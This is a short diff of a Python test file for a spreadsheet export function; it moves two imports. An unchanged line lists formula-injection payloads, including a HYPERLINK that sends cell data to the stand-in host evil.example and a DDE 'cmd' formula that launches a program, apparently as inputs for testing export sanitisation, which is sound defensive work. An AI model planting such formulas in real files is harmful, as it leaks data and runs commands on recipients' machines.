@@ -8,8 +8,8 @@ from pathlib import Path
 import pytest
 
 from autoresearch.ui.export import write_export
-from autoresearch.ui.report.synthetic import make_study
-from tests.ui.report.conftest import make_spec
+from tests.support.synthetic import make_study
+from tests.ui.conftest import make_spec
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2-cmd"]
 
